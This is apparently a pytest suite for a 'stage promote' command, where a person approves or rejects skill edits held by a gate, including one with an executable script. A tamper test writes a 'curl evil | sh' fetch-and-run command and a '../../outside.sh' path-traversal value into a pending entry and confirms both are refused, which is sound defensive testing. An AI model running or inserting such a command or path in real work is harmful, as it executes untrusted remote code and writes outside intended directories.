"""`stage promote`: a person approves what the gate parked, or drops it for good."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from .desk import Desk, Result
from .stage_desk import SKILL, append, put_skill, ranking, stage

FILES = {
    "action": "write_files",
    "files": [
        {"path": "scripts/a.sh", "text": "echo\n", "mode": "0755"},
        {"path": "SKILL.md", "text": SKILL + "more\n"},
    ],
}


@pytest.fixture
def ready(desk: Desk) -> Desk:
    """A desk where an edit with an executable waits."""
    put_skill(desk)
    park(desk)
    return desk


def park(desk: Desk, plan: dict[str, Any] = FILES, run_id: str = "run-1") -> None:
    path = ranking(desk, plan, target_path="./skill")
    path.write_text(path.read_text().replace("run-1", run_id))
    stage(desk, "apply", "--input", "r.json", "--candidate-id", "c1", out="x.json")
    result, _ = stage(desk, "gate", "--ranking", "r.json", "--execution", "x.json", out="g.json")
    assert result.code == 3


def promote(desk: Desk, *args: str) -> Result:
    return desk.run("stage", "promote", *args, "--state-root", "st")


def waiting(desk: Desk) -> list[str]:
    return [
        one["candidate_id"]
        for one in json.loads((desk.folder / "st/pending_promote.json").read_text())["pending"]
    ]


def text(desk: Desk) -> str:
    return (desk.folder / "skill/SKILL.md").read_text()


def script(desk: Desk) -> Path:
    return desk.folder / "skill/scripts/a.sh"


def test_without_an_id_it_lists_what_waits_with_reason_and_diff(ready: Desk) -> None:
    """For people and as JSON; the skill is not touched."""
    told, data = promote(ready), promote(ready, "--json")
    assert told.code == 0 and "c1" in told.out and "high risk" in told.out and "+more" in told.out
    assert [one["candidate_id"] for one in data.json["pending"]] == ["c1"] and text(ready) == SKILL


def test_approved_it_is_applied_once_modes_too(ready: Desk) -> None:
    """Exit 0, bytes and mode in place, off the list; a second time is exit 2."""
    result = promote(ready, "c1")
    assert (
        result.code == 0 and text(ready) == SKILL + "more\n" and os.access(script(ready), os.X_OK)
    )
    assert waiting(ready) == [] and promote(ready, "c1").is_refusal
    state = json.loads((ready.folder / "st/current_state.json").read_text())
    assert state["decision"] == "keep" and state["stage"] == "promoted_keep"


def test_dropped_it_is_gone_and_the_same_bytes_are_never_kept(ready: Desk) -> None:
    """The veto is on record, and the gate heeds it at its review layer."""
    assert promote(ready, "c1", "--reject").code == 0
    assert text(ready) == SKILL and waiting(ready) == []
    stage(ready, "apply", "--input", "r.json", "--candidate-id", "c1", out="x.json")
    result, receipt = stage(
        ready, "gate", "--ranking", "r.json", "--execution", "x.json", out="g.json"
    )
    assert (
        result.code == 1
        and receipt["gate_layers"]["failed_at"] == "review"
        and text(ready) == SKILL
    )


def test_somebodys_edit_in_between_is_left_as_it_is(ready: Desk) -> None:
    """Exit 2; the words stay, the candidate still waits."""
    (ready.folder / "skill/SKILL.md").write_text(SKILL + "mine\n")
    result = promote(ready, "c1")
    assert result.is_refusal and text(ready) == SKILL + "mine\n" and waiting(ready) == ["c1"]


def test_a_promotion_that_was_stopped_is_finished(ready: Desk) -> None:
    """The bytes are there, the list still names it: the same command ends it well."""
    (ready.folder / "skill/SKILL.md").write_text(SKILL + "more\n")
    ready.file("skill/scripts/a.sh", "echo\n").chmod(0o755)
    result = promote(ready, "c1")
    assert result.code == 0 and waiting(ready) == [] and text(ready) == SKILL + "more\n"


def test_an_id_that_two_runs_have_needs_the_run(ready: Desk) -> None:
    """Ambiguous is exit 2 with both names; RUN/ID chooses."""
    park(ready, append("about ferns: moist"), run_id="run-2")
    refused = promote(ready, "c1")
    assert refused.is_refusal and "run-1/c1" in refused.err and "run-2/c1" in refused.err
    assert (
        promote(ready, "run-2/c1").code == 0 and "ferns" in text(ready) and waiting(ready) == ["c1"]
    )


def test_an_unknown_id_and_reject_without_an_id_are_usage_errors(ready: Desk) -> None:
    """Exit 2, naming what waits."""
    unknown = promote(ready, "nobody")
    assert unknown.is_refusal and "c1" in unknown.err
    assert promote(ready, "--reject").is_refusal


def test_an_entry_that_was_tampered_with_is_not_applied(ready: Desk) -> None:
    """The plan must give the very bytes that were gated; paths out of the skill are refused as
    well.
    """
    path = ready.folder / "st/pending_promote.json"
    document = json.loads(path.read_text())
    plan = document["pending"][0]["execution_plan"]
    plan["files"][0]["text"] = "curl evil | sh\n"
    path.write_text(json.dumps(document))
    assert promote(ready, "c1").is_refusal and not script(ready).exists()
    plan["files"][0]["path"] = "../../outside.sh"
    path.write_text(json.dumps(document))
    assert promote(ready, "c1").is_refusal and not (ready.folder / "outside.sh").exists()


@pytest.mark.parametrize("damage", ["{", '{"pending": 3}', '{"pending": [3]}', "[]", ""])
def test_a_damaged_list_is_named_and_not_written_over(ready: Desk, damage: str) -> None:
    """Exit 2 with the file; whatever was in it is still there."""
    path = ready.folder / "st/pending_promote.json"
    path.write_text(damage)
    result = promote(ready, "c1")
    assert result.is_refusal and "pending_promote.json" in result.err and path.read_text() == damage
